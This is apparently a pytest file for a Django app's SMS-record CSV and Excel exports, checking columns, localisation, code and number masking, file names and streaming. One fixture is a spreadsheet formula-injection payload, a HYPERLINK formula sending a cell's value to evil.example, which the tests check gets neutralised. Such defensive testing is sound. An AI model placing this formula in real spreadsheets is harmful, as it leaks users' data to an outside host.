"""The export files byte for byte (CSV) and cell for cell (XLSX), for a fixed set of records.

Pinned on the tablib exports (django-tables2's ``TableExport``) before they were streamed, so the
streamed ones can be seen to write the same files: the columns, headers and order, the times in
China time, the status as its word, codes masked, the explanation column, and every cell that a
spreadsheet would read as a formula after a quote. Changed on purpose since, for files that
travel (issue 15): a UTF-8 byte order mark first, the number (masked for Managers), the sign,
the BizId, the fetch time and the RequestId of the row's page as columns, Excel's times as
date-time cells, its sheet named in the page's language, the file named after the filters; the
template's name from the account's stored template list (issue 15, point 13).
"""

from __future__ import annotations

import io
from datetime import datetime, time, timedelta

import openpyxl
import pytest
from django.utils import timezone, translation

from deliveries.models import Fetch, SmsRecord, Status
from dysms.values import CHINA_TZ
from dysms_sandbox import reserved

pytestmark = pytest.mark.django_db

PHONE = "13900000077"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
CODE_TEXT = "【云雀科技】验证码482913，您正在登录云雀账号，5分钟内有效。"
BILL = '+86 提醒：您的账单已出, 请查收 "本月"\n第二行'
REQUEST_ID = "F4BC57C8-E8EA-4405-9B0C-93A16EFE19E8"
BOM = "\ufeff"


def at(day, hour: int, minute: int, second: int) -> datetime:
    return datetime.combine(day, time(hour, minute, second), tzinfo=CHINA_TZ)


@pytest.fixture
def stored(past_day):
    """One final day of six records: one of each kind of cell an export must get right."""
    fetch = Fetch.objects.create(
        phone=PHONE,
        day=past_day,
        biz_id="",
        fetched_at=timezone.now(),
        total_count=6,
        stored_count=6,
        request_ids=[REQUEST_ID, "second-page-id"],
    )
    waiting_since = timezone.now() - timedelta(hours=30)
    # In upstream's order, newest send first: the waiting one was sent last.
    rows = [
        (Status.WAITING, "", "SMS_4", "-5 积分已到账", "", None, None),
        (Status.DELIVERED, "DELIVERED", "SMS_100000001", HYPERLINK, "-order-7", (10, 0, 0), 5),
        (Status.DELIVERED, "DELIVERED", "SMS_271935402", CODE_TEXT, "", (9, 30, 0), 3),
        (Status.FAILED, "MOBILE_NOT_ON_SERVICE", "@SMS_3", BILL, "+1", (9, 0, 0), 40),
        (Status.DELIVERED, "DELIVERED", "SMS_5", "", "order-9", (8, 0, 0), 1),
    ]
    for position, (status, err_code, template, content, out_id, sent, took) in enumerate(rows):
        send_time = at(past_day, *sent) if sent else waiting_since
        SmsRecord.objects.create(
            fetch=fetch,
            phone=PHONE,
            send_day=past_day,
            position=position,
            status=status,
            err_code=err_code,
            template_code=template,
            content=content,
            out_id=out_id,
            send_time=send_time,
            receive_time=send_time + timedelta(seconds=took) if took else None,
        )
    return waiting_since


HEADER = (
    BOM + "Sent,Received,Phone number,Status,Error code,Sign,Template,Template name,Content,"
    "OutId,BizId,"
    "What it means,Fetched,RequestId\r\n"
)
OUT_OF_SERVICE = (
    "The number is out of service (suspended, unassigned, switched off or out of coverage)."
)
NO_RECEIPT = (
    "No receipt after 1\xa0day; it is unlikely to come now. Ask the customer whether the "
    "message arrived."
)


def china_time(moment) -> str:
    return timezone.localtime(moment).strftime("%Y-%m-%d %H:%M:%S")


def csv_lines(day, waiting_since) -> list[str]:
    """The rows of the CSV export in the store's order."""
    waited = china_time(waiting_since)
    fetched = china_time(Fetch.objects.get().fetched_at)
    tail = f"{fetched},{REQUEST_ID}\r\n"
    return [
        f"{waited},,{PHONE},Waiting,,,SMS_4,,'-5 积分已到账,,,{NO_RECEIPT},{tail}",
        f"{day} 10:00:00,{day} 10:00:05,{PHONE},Delivered,DELIVERED,,SMS_100000001,,"
        '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",\'-order-7,,,' + tail,
        f"{day} 09:30:00,{day} 09:30:03,{PHONE},Delivered,DELIVERED,云雀科技,SMS_271935402,"
        "登录验证码,【云雀科技】验证码******，您正在登录云雀账号，5分钟内有效。,,,," + tail,
        f"{day} 09:00:00,{day} 09:00:40,{PHONE},Failed,MOBILE_NOT_ON_SERVICE,,'@SMS_3,,"
        '"\'+86 提醒：您的账单已出, 请查收 ""本月""\n第二行",\'+1,,'
        f'"{OUT_OF_SERVICE}",' + tail,
        f"{day} 08:00:00,{day} 08:00:01,{PHONE},Delivered,DELIVERED,,SMS_5,,,order-9,,," + tail,
    ]


def export(client, day, export_format: str, **params):
    return client.get(
        "/", {"phone": PHONE, "date": day.isoformat(), "_export": export_format, **params}
    )


def body(response) -> bytes:
    """The whole file, whether the response was built in one piece or streamed."""
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def test_the_csv_export_is_this_file_byte_for_byte(staff, upstream, past_day, stored):
    response = export(staff, past_day, "csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    expected = f'attachment; filename="sms-{PHONE}-{past_day:%Y%m%d}.csv"'
    assert response["Content-Disposition"] == expected
    lines = csv_lines(past_day, stored)
    assert body(response) == (HEADER + "".join(lines)).encode()
    assert upstream.calls == []


@pytest.mark.parametrize(
    ("sort", "order"),
    [("status", [0, 3, 1, 2, 4]), ("-send_time", [0, 1, 2, 3, 4]), ("template", [0, 1, 2, 3, 4])],
)
def test_the_csv_export_follows_the_pages_sort(staff, upstream, past_day, stored, sort, order):
    lines = csv_lines(past_day, stored)

    response = export(staff, past_day, "csv", sort=sort)

    assert body(response) == (HEADER + "".join(lines[n] for n in order)).encode()


def test_with_masking_off_the_csv_export_holds_the_code(
    staff, upstream, past_day, stored, settings
):
    settings.MASK_VERIFICATION_CODES = False

    text = body(export(staff, past_day, "csv")).decode()

    assert f"SMS_271935402,登录验证码,{CODE_TEXT},,," in text


@pytest.mark.chinese
def test_the_csv_export_speaks_chinese(staff, upstream, past_day, stored):
    text = body(export(staff, past_day, "csv")).decode("utf-8-sig")

    header, *rows = text.split("\r\n")
    assert header == (
        "发送时间,接收时间,手机号码,状态,错误码,签名,模板,模板名称,内容,OutId,BizId,含义,获取时间,"
        "RequestId"
    )
    assert [row.split(",")[3] for row in rows if row[:4].isdigit()] == [
        "等待回执",
        "已送达",
        "已送达",
        "失败",
        "已送达",
    ]
    assert ",号码无法接通（停机、空号、关机或不在服务区）。," in rows[3]
    assert ",已过 1\xa0日 仍无回执，大概率不会再返回。请向客户确认是否收到短信。," in rows[0]


def test_the_excel_export_holds_the_same_cells(staff, upstream, past_day, stored):
    waited = timezone.localtime(stored).replace(tzinfo=None, microsecond=0)
    fetched = timezone.localtime(Fetch.objects.get().fetched_at).replace(tzinfo=None, microsecond=0)

    def china(hour, minute, second):
        return datetime.combine(past_day, time(hour, minute, second))

    response = export(staff, past_day, "xlsx")

    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    expected = f'attachment; filename="sms-{PHONE}-{past_day:%Y%m%d}.xlsx"'
    assert response["Content-Disposition"] == expected
    book = openpyxl.load_workbook(io.BytesIO(body(response)))
    sheet = book.active
    assert (book.sheetnames, sheet.title, sheet.freeze_panes) == (
        ["SMS records"],
        "SMS records",
        "A2",
    )
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    tail = [fetched, REQUEST_ID]
    assert values == [
        [
            *("Sent", "Received", "Phone number", "Status", "Error code", "Sign", "Template"),
            *("Template name", "Content", "OutId", "BizId", "What it means", "Fetched"),
            "RequestId",
        ],
        [
            waited,
            None,
            PHONE,
            "Waiting",
            None,
            None,
            "SMS_4",
            None,
            "'-5 积分已到账",
            None,
            None,
            NO_RECEIPT,
            *tail,
        ],
        [
            *(china(10, 0, 0), china(10, 0, 5), PHONE, "Delivered", "DELIVERED", None),
            *("SMS_100000001", None, "'" + HYPERLINK, "'-order-7", None, None, *tail),
        ],
        [
            *(china(9, 30, 0), china(9, 30, 3), PHONE, "Delivered", "DELIVERED", "云雀科技"),
            "SMS_271935402",
            "登录验证码",
            "【云雀科技】验证码******，您正在登录云雀账号，5分钟内有效。",
            *(None, None, None, *tail),
        ],
        [
            *(china(9, 0, 0), china(9, 0, 40), PHONE, "Failed", "MOBILE_NOT_ON_SERVICE", None),
            *("'@SMS_3", None, "'" + BILL, "'+1", None, OUT_OF_SERVICE, *tail),
        ],
        [
            *(china(8, 0, 0), china(8, 0, 1), PHONE, "Delivered", "DELIVERED", None, "SMS_5"),
            *(None, None, "order-9", None, None, *tail),
        ],
    ]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    times = [cell for cell in cells if isinstance(cell.value, datetime)]
    assert {cell.column_letter for cell in times} == {"A", "B", "M"}
    assert {cell.number_format for cell in times} == {"yyyy-mm-dd hh:mm:ss"}
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s", "d"}
    assert all(cell.font.b for cell in sheet[1])
    assert [cell.coordinate for cell in cells if cell.alignment.wrap_text] == ["I5"]
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ACHIN"}
    assert widths == {"A": 20, "C": 16, "H": 24, "I": 60, "N": 38}


@pytest.mark.chinese
def test_the_excel_sheet_is_named_in_the_pages_language(staff, upstream, past_day, stored):
    sheet = openpyxl.load_workbook(io.BytesIO(body(export(staff, past_day, "xlsx")))).active

    assert sheet.title == "短信记录"
    assert [cell.value for cell in sheet[1]][:4] == ["发送时间", "接收时间", "手机号码", "状态"]


def test_a_manager_exports_the_number_masked_as_the_page_shows_it(
    manager, upstream, past_day, stored
):
    response = export(manager, past_day, "csv")

    masked = "139****0077"
    rows = body(response).decode("utf-8-sig").split("\r\n")[1:-1]
    assert [row.split(",")[2] for row in rows if row[:4].isdigit()] == [masked] * 5
    assert PHONE not in body(response).decode()
    assert 'filename="sms-139xxxx0077-' in response["Content-Disposition"]


def test_each_row_names_the_request_id_of_its_page(staff, upstream, past_day, stored):
    SmsRecord.objects.filter(position=4).update(position=50)  # the second page's first record

    rows = body(export(staff, past_day, "csv")).decode("utf-8-sig").split("\r\n")

    assert rows[-2].endswith(",second-page-id")
    assert rows[1].endswith(f",{REQUEST_ID}")


def test_a_fetch_without_an_id_for_the_rows_page_gives_its_first(staff, upstream, past_day, stored):
    SmsRecord.objects.filter(position=4).update(position=120)  # page 3 of a fetch with 2 ids

    rows = body(export(staff, past_day, "csv")).decode("utf-8-sig").split("\r\n")

    assert rows[-2].endswith(f",{REQUEST_ID}")


def test_the_file_name_says_the_filters(staff, upstream, past_day, stored):
    first = past_day - timedelta(days=1)
    params = {"date_to": past_day.isoformat(), "status": "failed", "template": "SMS_3"}

    response = staff.get(
        "/", {"phone": PHONE, "date": first.isoformat(), "_export": "csv", **params}
    )

    name = f"sms-{PHONE}-{first:%Y%m%d}-{past_day:%Y%m%d}-failed-SMS_3.csv"
    assert response["Content-Disposition"] == f'attachment; filename="{name}"'


def test_a_chinese_text_filter_is_named_in_utf8_beside_an_ascii_name(
    staff, upstream, past_day, stored
):
    response = export(staff, past_day, "xlsx", q="积分", biz_id="900619746936498440^0")

    day = f"{past_day:%Y%m%d}"
    ascii_name = f"sms-{PHONE}-{day}-900619746936498440_0-_.xlsx"
    utf8_name = f"sms-{PHONE}-{day}-900619746936498440_0-%E7%A7%AF%E5%88%86.xlsx"
    assert response["Content-Disposition"] == (
        f"attachment; filename=\"{ascii_name}\"; filename*=UTF-8''{utf8_name}"
    )


# Since the exports are streamed.


def test_a_long_csv_export_is_sent_in_pieces_as_it_is_read(staff, upstream, past_day):
    first = past_day - timedelta(days=1)
    search = {
        "phone": reserved.HUNDREDS,
        "date": first.isoformat(),
        "date_to": past_day.isoformat(),
    }

    response = staff.get("/", {**search, "_export": "csv"})

    pieces = list(response.streaming_content)
    assert len(pieces) > 1
    assert b"".join(pieces).count(b"\r\n") == 1 + 2 * 420


def test_the_stream_keeps_the_language_of_the_request(staff, upstream, past_day, stored):
    response = export(staff, past_day, "csv")

    with translation.override("zh-hans"):  # whatever the server's thread speaks meanwhile
        text = body(response).decode()

    assert OUT_OF_SERVICE in text and NO_RECEIPT in text


def test_a_control_character_from_upstream_does_not_break_the_excel_export(
    staff, upstream, past_day, stored
):
    SmsRecord.objects.filter(position=0).update(
        content="escape \x1b[31m", content_masked="escape \x1b[31m"
    )

    csv_export = export(staff, past_day, "csv")
    xlsx_export = export(staff, past_day, "xlsx")

    assert "escape \x1b[31m" in body(csv_export).decode("utf-8-sig")
    sheet = openpyxl.load_workbook(io.BytesIO(body(xlsx_export))).active
    assert sheet["I2"].value == "escape \ufffd[31m"
